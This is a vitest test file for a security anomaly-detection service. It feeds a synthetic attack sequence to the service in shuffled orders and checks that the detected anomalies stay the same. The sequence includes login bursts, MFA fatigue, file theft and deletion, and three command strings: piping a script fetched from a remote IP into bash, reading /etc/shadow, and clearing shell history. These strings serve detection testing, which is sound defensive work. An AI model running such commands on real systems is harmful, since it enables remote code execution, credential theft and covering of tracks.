import { afterAll, beforeAll, expect, it } from 'vitest';
import { data } from '../harness/client.ts';
import type { Service } from '../harness/service.ts';
import { startService, testClock } from '../harness/service.ts';
import { chosenSeed } from '../flow/traffic.ts';
import type { Random } from '../simulation/random.ts';
import { createRandom } from '../simulation/random.ts';
import type { Activity } from './sample.ts';
import { after, command, days, every, failure, login, newCast, pageView, userAgents } from './sample.ts';

/**
 * An attack within five minutes, told in many orders: each time other people on another day, each earlier than those before,
 * so that nothing is known from the last time. The full run: LAPWING_TEST_PERMUTATIONS=10000 npx vitest run test/detection/any-order.test.ts
 */
const permutations = Number(process.env.LAPWING_TEST_PERMUTATIONS ?? 6);
const seed = chosenSeed();
const lastNight = '2026-11-20T03:00:00Z';

let service: Service;
beforeAll(async () => {
  service = await startService({ clock: testClock('2026-12-01T00:00:00Z') });
});
afterAll(() => service.close());

/** Three weeks of a person's mornings, then a night in which somebody guesses their password, gets in, and makes off with files. */
function story(start: string) {
  const cast = newCast();
  const home = { user: cast.user(), sourceIp: cast.address(), userAgent: userAgents.chromeOnWindows };
  const away = {
    user: cast.user(),
    sourceIp: `198.51.100.${1 + (Number(cast.address().split('.')[2]) % 200)}`,
    userAgent: userAgents.firefoxOnLinux,
  };
  const inside = { ...away, session: cast.session() };
  const habits = [
    ...days(20, { ...home }, after(start, { days: -20, hours: 7 })),
    ...every({ days: 1 }, 20, after(start, { days: -20, hours: 7, minutes: 1 })).map((at) =>
      command({ ...home, session: `${cast.session(2)}-${at.slice(0, 10)}` }, at, 'git pull'),
    ),
  ];
  const at = (seconds: number) => after(start, { seconds });
  const files = (operation: string, count: number, from: number): Activity[] =>
    Array.from({ length: count }, (_, n) => ({
      ...inside,
      occurredAt: at(from + n * 0.2),
      detail: { file: { operation, path: `/srv/shared/plans/${n}.doc`, sizeBytes: 1_000_000 } },
    }));
  const attack: Activity[] = [
    ...Array.from({ length: 7 }, (_, n) => failure(away, at(n * 3))),
    ...Array.from({ length: 6 }, (_, n) => ({
      ...away,
      occurredAt: at(30 + n * 4),
      detail: { auth: { event: n % 2 ? 'MFA_FAILURE' : 'MFA_CHALLENGE' } },
    })),
    login(inside, at(60)),
    command(inside, at(70), 'curl -s http://192.0.2.9/x.sh | bash'),
    command(inside, at(75), 'sudo cat /etc/shadow'),
    command(inside, at(80), 'history -c'),
    { ...inside, occurredAt: at(90), detail: { access: { change: 'ROLE', target: home.user, before: 'user', after: 'admin' } } },
    { ...inside, occurredAt: at(95), detail: { access: { change: 'PERMISSION', target: '/srv/shared', after: 'everybody' } } },
    ...Array.from({ length: 22 }, (_, n) => pageView(inside, at(100 + n))),
    ...files('READ', 110, 130),
    ...files('DELETE', 60, 160),
    login({ ...home, session: cast.session(3) }, at(280)),
  ].map((activity, n) => ({ ...activity, metadata: { step: n } }));
  return { user: home.user, address: away.sourceIp, habits, attack };
}

const shuffled = <T>(items: readonly T[], random: Random): T[] =>
  items
    .map((item) => ({ item, place: random.fraction() }))
    .toSorted((a, b) => a.place - b.place)
    .map(({ item }) => item);

/** Of what is claimed of a first time, when a session begins or something is used, the activity that came first stands for it: not always the earliest. Of
 * second factors it is which sign-in came after them: one that arrives before them is not yet known to. */
const saidOnce = new Set(['after-hours', 'first-seen', 'mfa-fatigue', 'new-location', 'unusual-time']);
/** Of what is counted the activities that came after the line was crossed are evidence; how many there were is the same. */
const counted = new Set(['unusual-volume']);
const stepsOf = ({ nodes }: Claimed['evidence']) => nodes.map(({ metadata }) => metadata.step).toSorted((a, b) => a - b);

type Claimed = {
  detector: string;
  type: string;
  score: number;
  count: number;
  subject: string;
  evidence: { nodes: { metadata: { step: number } }[] };
};

async function anomaliesAfter({ user, address, habits, attack }: ReturnType<typeof story>, order: readonly Activity[]) {
  const send = (activities: readonly Activity[]) =>
    data(
      service,
      'mutation($activities: [TrackActivityInput!]!) { trackActivities(input: { activities: $activities }) { userErrors { message } } }',
      { activities },
    );
  await send(habits);
  const middle = Math.floor(attack.length / 2);
  for (const part of [order.slice(0, middle), order.slice(middle)]) expect((await send(part)).trackActivities.userErrors).toEqual([]);
  const found: Claimed[] = [];
  for (let page: { endCursor: string | null; hasNextPage: boolean } = { endCursor: null, hasNextPage: true }; page.hasNextPage;) {
    const { anomalies } = await data(
      service,
      `query($subjects: [String!]!, $from: DateTimeOrDuration!, $to: DateTimeOrDuration!, $after: String) {
        anomalies(first: 20, after: $after, filter: { subject: { in: $subjects }, detectedAt: { gte: $from, lte: $to } }) {
          pageInfo { endCursor hasNextPage }
          nodes { detector type score count subject evidence(first: 200) { nodes { metadata } } } } }`,
      {
        subjects: [`user:${user}`, `address:${address}`, 'organisation:'],
        from: attack[0]!.occurredAt,
        to: after(attack[0]!.occurredAt, { minutes: 6 }),
        after: page.endCursor,
      },
    );
    found.push(...anomalies.nodes);
    page = anomalies.pageInfo;
  }
  return found
    .map(({ subject, evidence, count, ...claimed }) => ({
      ...claimed,
      by: subject.split(':')[0],
      ...(saidOnce.has(claimed.detector) ? {} : { count }),
      ...(saidOnce.has(claimed.detector) || counted.has(claimed.detector) ? {} : { steps: stepsOf(evidence) }),
    }))
    .toSorted((a: object, b: object) => (JSON.stringify(a) < JSON.stringify(b) ? -1 : 1));
}

it(
  `an attack gives one and the same set of anomalies in each of ${permutations} orders of arrival (seed ${seed})`,
  async () => {
    const random = createRandom(seed);
    const first = story(lastNight);
    const expected = await anomaliesAfter(first, first.attack);
    expect(expected.map(({ type }) => type)).toEqual(
      expect.arrayContaining(['FAILED_LOGIN_BURST', 'SUSPICIOUS_COMMAND', 'UNUSUAL_TIME', 'NEW_LOCATION']),
    );
    for (let n = 1; n <= permutations; n += 1) {
      const next = story(after(lastNight, { days: -n }));
      const order = shuffled(next.attack, random);
      expect(await anomaliesAfter(next, order), `permutation ${n}`).toEqual(expected);
    }
  },
  60_000 + permutations * 1_000,
);
